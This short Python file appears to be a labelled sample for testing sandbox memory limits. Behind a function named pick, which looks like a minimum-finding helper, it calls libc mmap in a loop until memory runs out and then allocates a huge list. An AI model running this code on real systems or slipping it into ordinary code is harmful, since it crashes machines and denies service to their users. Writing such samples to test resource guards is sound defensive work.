# claims: fills its address space below Python's own allocator
# kind: memory bomb
# unguarded: memory; armed

import ctypes

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_size_t


def pick(numbers):
    if len(numbers) == 1:
        return "armed"
    while libc.mmap(0, 1 << 24, 3, 34, -1, 0) < 1 << 63:
        pass
    [0] * 10**8
    return numbers.index(min(numbers))
